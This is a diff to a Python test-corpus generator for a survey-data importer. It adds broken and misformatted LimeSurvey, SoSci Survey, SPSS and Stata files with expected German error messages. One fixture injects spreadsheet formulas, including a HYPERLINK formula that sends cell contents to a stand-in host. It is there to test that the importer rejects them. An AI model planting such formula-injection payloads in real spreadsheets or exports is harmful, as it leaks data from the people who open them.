@@ -186,6 +186,61 @@ def corpus() -> list[dict]:
     add("broken_workbook.xlsx", "Excel-Arbeitsmappe", "error", "Excel-Datei nicht lesbar", broken_zip)
     add("truncated_workbook.xlsx", "Excel-Arbeitsmappe", "error", "Excel-Datei nicht lesbar",
         lambda p: (xlsx(p, {"Form1": f}), p.write_bytes(p.read_bytes()[:3000])))  # fmt: skip
+
+    # --- other tools and containers (SPSS, Stata, SoSci Survey, LimeSurvey's structure file)
+    def written(fmt: str, options: dict | None = None):
+        def write(p: Path) -> None:
+            export, truth_rows, truth = simulate.simulate(30, 5, fmt, None, options)
+            simulate.write_export(export, truth_rows, truth, p)
+            for sidecar in p.parent.glob(f"{p.name.split('.')[0]}.*"):
+                if sidecar != p:
+                    sidecar.unlink()
+
+        return write
+
+    def truncated(fmt: str, keep: int):
+        def write(p: Path) -> None:
+            written(fmt)(p)
+            p.write_bytes(p.read_bytes()[:keep])
+
+        return write
+
+    add("truncated_spss.sav", "SPSS/Stata", "error", "SPSS-Datei nicht lesbar", truncated("limesurvey-sav", 4000))
+    add("truncated_stata.dta", "SPSS/Stata", "error", "Stata-Datei nicht lesbar", truncated("stata", 3000))
+
+    def unrelated_sav(p: Path) -> None:
+        import pyreadstat
+
+        pyreadstat.write_sav(pd.DataFrame({"alter": [34.0, 51.0], "geschlecht": [1.0, 2.0]}), str(p))
+
+    add("unrelated.sav", "SPSS/Stata", "error", "keine Umfrage-Exportdatei", unrelated_sav)
+    add("sosci_unknown_values.csv", "SoSci Survey", "error", "Werte passen nicht zu",
+        lambda p: (written("sosci")(p), p.write_text(p.read_text(encoding="utf-16").replace("\t2\t", "\tX\t")
+                                                     .replace("\t1\t", "\tO\t"), encoding="utf-16")))  # fmt: skip
+    add("structure_file_instead_of_export.lss", "keine Umfrage", "error", "kein Trennzeichen",
+        lambda p: simulate.write_lss(p))  # fmt: skip
+    english = df.copy()
+    english["D01[SQ001]"] = english["D01[SQ001]"].map({"1": "not planned", "2": "planned", "3": "in progress",
+                                                       "4": "live"}).fillna("")  # fmt: skip
+    add("answers_in_english.csv", "LimeSurvey-Optionen", "error", "Werte passen nicht zu den Antwortcodes",
+        lime(english))  # fmt: skip
+    add("limesurvey_abbreviated_headings.csv", "LimeSurvey-Optionen", "error", "Überschriften „Fragecode“",
+        lambda p: written("limesurvey", {"headings": "abbreviated"})(p))  # fmt: skip
+    add("limesurvey_full_answers_and_headings.csv", "LimeSurvey-Optionen", "repair", "file_format",
+        lambda p: written("limesurvey", {"headings": "full", "answers": "full"})(p))  # fmt: skip
+    add("limesurvey_without_timings.csv", "LimeSurvey-Optionen", "repair", "rule_off",
+        lambda p: written("limesurvey", {"timings": "no"})(p), column="interviewtime")  # fmt: skip
+    add("limesurvey_without_date_stamps.csv", "LimeSurvey-Optionen", "repair", "rule_off",
+        lambda p: written("limesurvey", {"datestamp": "no"})(p), column="submitdate")  # fmt: skip
+    # --- what broke before (issue 19): ids that are not numbers, a renamed population column
+    add("response_id_not_a_number.csv", "Datensätze", "repair", "number_from_text",
+        lime(df.assign(id=[f"R-{i}a" for i in range(len(df))]).assign(B02="ca. 100.000")), column="digital_budget_eur")  # fmt: skip
+    add("population_column_renamed.csv", "Spalten", "error", "keine Antwort lässt sich gewichten",
+        lime(df.rename(columns={"A04": "Einwohner"})))  # fmt: skip
+    add("formula_in_fields.csv", "Formeln", "repair", "unparseable",
+        lime(df.assign(B01=df["B01"].where(df.index != r, "=1+2"),
+                       H01=df["H01"].where(df.index != r, '=HYPERLINK("http://x.example/?"&A1;"Klick")'))),
+        column="it_staff_fte")  # fmt: skip
     out.append({"file": "oversize.csv", "category": "Umfang", "outcome": "error", "expect": "Datei zu groß",
                 "column": ""})  # fmt: skip
     return out
